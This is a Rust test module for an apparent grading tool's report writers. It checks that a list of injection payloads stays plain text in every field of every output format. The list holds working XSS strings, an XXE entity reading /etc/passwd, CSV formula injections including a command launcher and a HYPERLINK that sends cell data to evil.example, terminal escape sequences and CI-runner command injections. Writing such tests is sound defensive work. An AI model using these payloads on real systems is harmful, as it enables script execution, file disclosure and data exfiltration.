//! One list of hostile texts, tried in every place of every format: none changes anything but the text itself.
//!
//! A format tells its *shape*: all that a reader of it acts on (elements and attributes, rows and cells, commands). The
//! shape of a report with a payload in some place must be that of the report with a harmless word there.

use std::sync::Arc;

use serde_json::Value;

use super::table::{Colour, candidates_table};
use super::untrusted::is_steering;
use super::*;
use crate::grade::{Asked, AskedConcept, AskedMisconception, Marked, Outcome};
use crate::report::read::parse;
use crate::score::How;

/// A word that means nothing anywhere.
const HARMLESS: &str = "word";

/// What must not do anything.
const PAYLOADS: &[&str] = &[
    // Markup: elements, attributes, comments, ends of elements in which text is not markup.
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
    "' onmouseover='alert(1)",
    "\" autofocus onfocus=\"alert(1)",
    "</title></style></textarea></script><svg onload=alert(1)>",
    "<!--<iframe src=//evil.example>",
    "--><a href=\"javascript:alert(1)\">x</a>",
    "&lt;b&gt;&#60;script&#62;&amp;&nbsp;",
    "\r\n<base href=\"//evil.example\">",
    "<meta http-equiv=\"refresh\" content=\"0;url=//evil.example\">",
    // XML: elements, sections, entities, characters that it does not know.
    "</testcase></testsuite><x>",
    "\"/><failure message=\"x",
    "]]>",
    "<![CDATA[x]]>",
    "&#0;&#x1b;&xxe;",
    "<!DOCTYPE x [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>",
    "<?xml version=\"1.0\"?>",
    "a\u{FFFE}\u{FFFF}b",
    "a\0b",
    "a\u{1}\u{8}\u{b}\u{c}\u{1f}b",
    // Markdown: links, images, HTML, mentions, references, tables, code, headings, lists, emphasis, formulas.
    "[x](javascript:alert(1))",
    "![x](https://evil.example/x.png)",
    "[x]: https://evil.example",
    "[x][y] [^1] [ ] - [x] y",
    "<https://evil.example> <a@evil.example>",
    "https://evil.example www.evil.example a@evil.example",
    "@admin @org/team #1 GH-1 org/name#1",
    "a | b |\n| c | d",
    "\n\n| a |\n|---|\n| b |",
    "```\ncode\n```",
    "~~~\ncode",
    "`x` ``y``",
    "# head\n## head\n- list\n* list\n+ list\n1. list\n> quote\n---\n===",
    "**b** __b__ _i_ ~~s~~ $m$ $$m$$ ^u^ ==h==",
    "</details></sub><h1>x</h1>",
    "\\<b\\> \\\\| \\`x`",
    ":tada: &copy;",
    "    four blanks",
    "word  \nword\\\nword",
    // Formulas, also after blanks, quotes, separators of other tables and marks that are not seen.
    "=1+1",
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"https://evil.example?x=\"&A1,\"x\")",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\"=1+1",
    "\"\"=1+1\"",
    "\",=1+1,\"",
    "\"\n=1+1",
    "x;=1+1",
    "x;\"=1+1\";",
    "x\t=1+1",
    "x\r\n@x",
    "\u{A0}=1+1",
    "\u{FEFF}=1+1",
    "\u{200B}+1",
    "＝1+1",
    "＠x",
    "\0=1+1",
    // Terminals: escapes, links, titles, the C1 range, erasing, direction.
    "\u{1b}[2J\u{1b}[31m",
    "\u{1b}]8;;https://evil.example\u{1b}\\x\u{1b}]8;;\u{1b}\\",
    "\u{1b}]8;;https://evil.example\u{7}x\u{1b}]8;;\u{7}",
    "\u{1b}]0;title\u{7}",
    "\u{1b}]52;c;cm0=\u{7}",
    "\u{1b}P+q544e\u{1b}\\",
    "\u{9b}31m\u{9d}0;x\u{9c}\u{90}x\u{9c}",
    "abc\u{8}\u{8}\u{8}\u{7f}x",
    "a\rb\u{85}c\u{2028}d\u{2029}e",
    "\u{202E}gnp.exe\u{202A}\u{202B}\u{202C}\u{202D}",
    "\u{2066}a\u{2067}b\u{2068}c\u{2069}",
    // Commands of CI systems.
    "::error::x",
    "x\n::error::y",
    "x\r\n::add-mask::y",
    " \t::set-output name=a::b",
    "\u{FEFF}::stop-commands::x",
    "##[error]x",
    "x ##[add-matcher]y",
    "##vso[task.setvariable variable=a]b",
    "##teamcity[buildStatus status='x']",
    "%0A::error::x%0D",
    "x,file=/etc/passwd,title=y::z",
    "section_start:1:x\r\u{1b}[0Kx",
];

/// A place where text comes from outside, and how a text gets there.
type Place = (&'static str, fn(&mut GradedResponse, &str));

/// The places of a response that was scored.
const PLACES: &[Place] = &[
    ("candidate", |response, text| response.candidate = text.into()),
    ("item", |response, text| response.item = text.into()),
    ("answer", |response, text| in_answer(response, text)),
    ("question", |response, text| asked(response).question = text.into()),
    ("reference", |response, text| asked(response).references = vec![text.into(), text.into()]),
    ("warning", |response, text| response.warnings = vec![text.into()]),
    ("file name", |response, text| response.origin.path = text.replace('\0', "").into()),
    ("band", |response, text| marked(response).band = text.into()),
    ("concept's id", |response, text| {
        asked(response).concepts[2].id = text.into();
        marked(response).grade.concepts[2].id = text.into();
    }),
    ("concept's sentence", |response, text| asked(response).concepts[2].says = text.into()),
    ("concept's hint", |response, text| marked(response).grade.concepts[2].hint = Some(text.into())),
    ("concept's condition", |response, text| marked(response).grade.concepts[2].only_if = Some(text.into())),
    ("variant", |response, text| {
        if let Some(found) = &mut marked(response).grade.concepts[0].found {
            found.how = How::Words(text.into());
        }
    }),
    ("misconception's id", |response, text| {
        asked(response).misconceptions[0].id = text.into();
        marked(response).grade.misconceptions[0].id = text.into();
    }),
    ("misconception's sentence", |response, text| asked(response).misconceptions[0].says = text.into()),
    ("misconception's hint", |response, text| asked(response).misconceptions[0].hint = Some(text.into())),
    ("contradicted sentence", |response, text| marked(response).grade.contradictions[0].against = text.into()),
    ("what shows a contradiction", |response, text| marked(response).grade.contradictions[0].evidence = text.into()),
    ("reason", |response, text| response.outcome = Outcome::Unscored(text.into())),
];

/// A format by its writer, and what tells the shape of what it wrote.
type Target = (&'static str, fn(&[GradedResponse], &Signature) -> String, fn(&str) -> Vec<String>);

const TARGETS: [Target; 11] = [
    ("csv", |of, by| written(Format::Csv, of, by), table_shape),
    ("csv-wide", |of, by| written(Format::CsvWide, of, by), table_shape),
    ("csv-concepts", |of, by| written(Format::CsvConcepts, of, by), table_shape),
    ("json", |of, by| written(Format::Json, of, by), json_shape),
    ("jsonl", |of, by| written(Format::Jsonl, of, by), json_shape),
    ("html", |of, by| written(Format::Html, of, by), markup_shape),
    ("markdown", |of, by| written(Format::Markdown, of, by), markdown_shape),
    ("junit", |of, by| written(Format::Junit, of, by), markup_shape),
    ("github", |of, by| written(Format::Github, of, by), commands_shape),
    ("gradescope", |of, by| written(Format::Gradescope, of, by), json_shape),
    ("table", |of, by| candidates_table(&samples::summary(of), by, None, Colour::Off), lines_shape),
];

fn written(format: Format, of: &[GradedResponse], signature: &Signature) -> String {
    let (destination, written) = samples::destination();
    let mut writer = writer(format, Destination::new(destination));
    writer.begin(signature).expect("memory takes all");
    for response in of {
        writer.response(response).expect("memory takes all");
    }
    writer.end(&samples::summary(of)).expect("memory takes all");
    written.text()
}

/// Returns a scored response with every text that a report can show.
fn response() -> GradedResponse {
    let concept = |id: &str| AskedConcept { id: id.into(), says: "Says so.".into(), required: id == "lazy" };
    let wrong = AskedMisconception { id: "orm-is-db".into(), says: "It is.".into(), hint: Some("It is not.".into()) };
    let asked = Asked {
        question: "What is it?".into(),
        references: vec!["One.".into(), "Two.".into()],
        concepts: ["tables", "models", "lazy"].map(concept).into(),
        misconceptions: vec![wrong],
        pass: 0.6,
    };
    GradedResponse { asked: Some(Arc::new(asked)), ..samples::scored() }
}

fn asked(response: &mut GradedResponse) -> &mut Asked {
    Arc::make_mut(response.asked.as_mut().expect("it was asked"))
}

fn marked(response: &mut GradedResponse) -> &mut Marked {
    match &mut response.outcome {
        Outcome::Scored(marked) => marked,
        Outcome::Blank | Outcome::Unscored(_) => panic!("it is scored"),
    }
}

/// Puts a text before the answer, where all evidence points at it.
fn in_answer(response: &mut GradedResponse, text: &str) {
    response.answer = format!("{text}{}", response.answer);
    let span = 0..text.len();
    let grade = &mut marked(response).grade;
    for found in grade.concepts.iter_mut().filter_map(|concept| concept.found.as_mut()) {
        found.span = span.clone();
    }
    grade.concepts[2].denied = Some(span.clone());
    grade.misconceptions[0].span = span.clone();
    grade.contradictions[0].span = span;
}

/// Rows and columns, and the cells that a spreadsheet would run, whichever of the usual separators it takes.
fn table_shape(report: &str) -> Vec<String> {
    let mut rows = ::csv::ReaderBuilder::new().has_headers(false).flexible(true).from_reader(report.as_bytes());
    let rows: Vec<_> = rows.records().map(|row| row.expect("a row")).collect();
    let mut shape: Vec<String> = rows.iter().map(|row| format!("{} columns", row.len())).collect();
    let cells = rows.iter().flatten().chain(report.split([';', '\t', '\n', '\r']));
    shape.extend(cells.filter(|cell| runs(cell)).map(|cell| format!("runs {cell:?}")));
    shape
}

fn runs(cell: &str) -> bool {
    let unseen =
        |c: char| c.is_whitespace() || c.is_control() || matches!(c, '"' | '\u{FEFF}' | '\u{200B}' | '\u{FFFD}');
    let is_number = cell.parse::<f64>().is_ok();
    let starts_with_separator = cell.starts_with(['\t', '\r', '\n']);
    !is_number
        && (starts_with_separator
            || cell.trim_start_matches(unseen).starts_with(['=', '+', '-', '@', '＝', '＋', '－', '＠']))
}

/// Names of fields and kinds of values; what is text stays text.
fn json_shape(report: &str) -> Vec<String> {
    fn walk(value: &Value, place: &str, shape: &mut Vec<String>) {
        match value {
            Value::Array(members) => {
                for (at, value) in members.iter().enumerate() {
                    walk(value, &format!("{place}/{at}"), shape);
                }
            }
            Value::Object(fields) => {
                for (name, value) in fields {
                    walk(value, &format!("{place}/{name}"), shape);
                }
            }
            Value::String(_) => shape.push(format!("{place} text")),
            // Where a quote begins and ends depends on the length of what it quotes.
            Value::Number(_) if place.contains("/span/") || place.contains("/denied/") => {}
            other => shape.push(format!("{place} {other}")),
        }
    }
    let mut shape = vec![format!("{} lines", report.lines().count())];
    for value in serde_json::Deserializer::from_str(report).into_iter::<Value>() {
        walk(&value.expect("JSON"), "", &mut shape);
    }
    shape
}

/// Elements and attributes, in order, as a browser or an XML parser reads them; and what neither may meet.
fn markup_shape(report: &str) -> Vec<String> {
    let text = report.split_once("</style>").map_or(report, |(_, page)| page);
    let mut shape = Vec::new();
    for part in text.split('<').skip(1) {
        let Some((tag, text)) = part.split_once('>') else {
            shape.push(format!("open {part:?}"));
            continue;
        };
        // What stands in quotes is a value; the rest are names.
        shape.extend(tag.split('"').step_by(2).flat_map(str::split_whitespace).map(|name| format!("<{name}")));
        shape.extend(text.contains('>').then(|| format!("open {text:?}")));
    }
    let entities = text.split('&').skip(1).map(|rest| rest.split_once(';').map_or(rest, |(name, _)| name));
    shape.extend(entities.filter(|name| !is_plain_entity(name)).map(|name| format!("&{name}")));
    shape.extend(text.chars().filter(|c| !is_in_xml(*c)).map(|c| format!("{c:?}")));
    shape.extend(text.matches("]]>").map(str::to_owned));
    shape
}

/// Tells whether an entity stands for a character that has a meaning in markup or in a command.
fn is_plain_entity(name: &str) -> bool {
    ["amp", "lt", "gt", "quot", "apos", "#39", "#58", "#35", "#x27"].contains(&name)
}

/// Tells whether XML 1.0 has a character.
fn is_in_xml(c: char) -> bool {
    matches!(c, '\t' | '\n' | '\r' | '\u{20}'..='\u{D7FF}' | '\u{E000}'..='\u{FFFD}' | '\u{10000}'..)
}

/// Lines, and the signs in each that Markdown reads: those that stand without a backslash, or with one that is no
/// escape.
fn markdown_shape(report: &str) -> Vec<String> {
    let signs = |line: &str| {
        let mut signs = String::new();
        let mut characters = line.chars().peekable();
        while let Some(c) = characters.next() {
            if c == '\\' && characters.next_if(char::is_ascii_punctuation).is_some() {
                // GitHub reads mentions and issues through a backslash, but not through a sign that is not seen.
                continue;
            }
            if c.is_ascii_punctuation() && !matches!(c, ',' | ';' | '%' | '?' | '/') {
                signs.push(c);
            }
        }
        signs
    };
    let mentions = ["@", "#"].map(|sign| {
        let after = report.split(sign).skip(1).filter(|rest| !rest.starts_with(['\u{2060}', '#', ' ']));
        format!("{} {sign}", after.count())
    });
    report.lines().map(signs).chain(mentions).collect()
}

/// Lines, each a command of its kind with its properties.
fn commands_shape(report: &str) -> Vec<String> {
    let shape = |line: &str| {
        // A message may have the sign too: the runner reads the first two.
        let parts: Vec<&str> = line.splitn(3, "::").collect();
        let [before, command, message] = parts[..] else { return format!("no command: {line:?}") };
        let (kind, properties) = command.split_once(' ').unwrap_or((command, ""));
        let names: Vec<&str> = properties.split(',').map(|property| property.split('=').next().unwrap_or("")).collect();
        let escapes =
            message.split('%').skip(1).filter(|rest| !["25", "0A", "0D"].iter().any(|code| rest.starts_with(code)));
        format!("{before}{kind} {} {}", names.join(" "), escapes.count())
    };
    report.lines().map(shape).collect()
}

fn lines_shape(report: &str) -> Vec<String> {
    vec![format!("{} lines", report.lines().count())]
}

/// Returns what no report may hold, whoever shows it: what steers a terminal, and commands that are not the report's own.
fn steering(report: &str, target: &str) -> Vec<String> {
    // Cells keep the line breaks and TABs of a text, and texts of pages, too.
    let kept =
        |c: char| matches!(c, '\n' | '\t') || target.starts_with("csv") && matches!(c, '\r' | '\u{2028}'..='\u{2069}');
    let mut found: Vec<String> =
        report.chars().filter(|c| is_steering(*c) && !kept(*c)).map(|c| format!("{c:?}")).collect();
    for line in report.split(['\n', '\r']).map(str::trim_start) {
        let brackets =
            line.split("##").skip(1).map(|rest| rest.trim_start_matches(|c: char| c.is_ascii_alphanumeric()));
        if line.starts_with("::") && target != "github" || brackets.into_iter().any(|rest| rest.starts_with('[')) {
            found.push(format!("command {line:?}"));
        }
    }
    found
}

/// Returns everything that the payloads do in a place of a format; `report` writes it with a text there.
fn effects(target: &Target, place: &str, report: impl Fn(&str) -> String) -> Vec<String> {
    let (name, _, shape) = target;
    let expected = shape(&report(HARMLESS));
    let mut effects = Vec::new();
    for payload in PAYLOADS {
        let report = report(payload);
        let actual = shape(&report);
        let mut found = steering(&report, name);
        if expected != actual {
            let new: Vec<_> = actual.iter().filter(|part| !expected.contains(part)).take(4).collect();
            found.push(format!("{} parts instead of {}: {new:?}", actual.len(), expected.len()));
        }
        effects.extend(found.iter().map(|effect| format!("{name}, {place}, {payload:?}: {effect}")));
    }
    effects
}

#[track_caller]
fn check_none(effects: &[String]) {
    assert!(effects.is_empty(), "{} effects\n{}", effects.len(), effects[..effects.len().min(60)].join("\n"));
}

#[test]
fn payload_in_any_place_of_any_format_is_only_text() {
    let mut all = Vec::new();
    for target in &TARGETS {
        for (place, fill) in PLACES {
            all.extend(effects(target, place, |text| {
                let mut response = response();
                fill(&mut response, text);
                (target.1)(&[response], &samples::signature())
            }));
        }
    }
    check_none(&all);
}

#[test]
fn rubric_id_of_the_signature_is_only_text() {
    let signature = |text: &str| Signature { rubric: Some(text.into()), ..samples::signature() };
    let all =
        TARGETS.iter().flat_map(|target| effects(target, "rubric", |text| (target.1)(&[response()], &signature(text))));
    check_none(&all.collect::<Vec<_>>());
}

/// A shape that sees nothing would let everything pass.
#[test]
fn payload_that_is_planted_in_a_report_changes_its_shape() {
    for (target, write, shape) in &TARGETS {
        let report = write(&[response()], &samples::signature());
        let planted = match *target {
            "html" | "junit" => vec!["<b>", "<img src=\"x\" onerror=\"x\">", "&xxe;", "\u{1b}"],
            "markdown" => vec!["[x](y)", "<b>", "@me", "|", "\n"],
            "json" | "jsonl" | "gradescope" => vec!["{}"],
            "github" => vec!["\n::error::x", ",file=x::"],
            "table" => vec!["\n"],
            _ => vec![",", "\n=1+1,", "\n;=1"],
        };
        for payload in planted {
            // Behind the name, where no quote is open.
            let place = if ["html", "junit", "markdown"].contains(target) {
                report.rfind('\n').expect("a line")
            } else {
                report.len()
            };
            let planted = format!("{}{payload}{}", &report[..place], &report[place..]);
            let (found, expected) = (shape(&planted), shape(&report));
            assert!(found != expected || !steering(&planted, target).is_empty(), "{target}: {payload:?}");
        }
    }
}

#[test]
fn json_gives_every_payload_back() {
    for payload in PAYLOADS {
        let mut response = GradedResponse { candidate: (*payload).into(), ..response() };
        in_answer(&mut response, payload);
        let report = written(Format::Json, &[response], &samples::signature());
        let read = parse(Path::new("r.json"), report.as_bytes()).expect("a report");
        assert_eq!(read.responses[0].candidate, *payload);
        assert_eq!(read.responses[0].misconceptions[0].quote.as_deref(), Some(*payload));
    }
}
